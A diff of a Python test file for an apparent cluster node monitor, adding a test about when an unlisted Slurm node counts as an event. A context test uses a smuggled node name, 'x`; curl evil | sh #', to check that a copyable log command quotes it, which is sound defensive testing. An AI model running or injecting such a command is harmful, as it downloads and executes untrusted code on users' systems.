@@ -161,6 +161,14 @@ def test_a_result_in_the_stream_of_another_node_is_no_event(account: FakeOperati
     assert found(account) == []
 
 
+def test_a_node_that_is_not_listed_counts_only_as_a_controller_that_was_replaced(account: FakeOperations) -> None:
+    account.nodes[0]["LaunchTime"] = ago(5)
+    account.state("head", 9, minutes=4, **slurm(DRAINED))
+    assert found(account) == []
+    account.state("head", 9, minutes=6, **slurm(DRAINED))
+    assert found(account) == [("slurm", "ip-10-1-0-3", "slurm-gpu")]
+
+
 def test_a_command_to_copy_quotes_the_name_that_a_node_reported() -> None:
     event = Event(NOW, Source.BUNDLE, "failed", "x`; curl evil | sh #", "boom")
     assert "./hpod logs ml 'x`; curl evil | sh #'`" in event.action("ml")
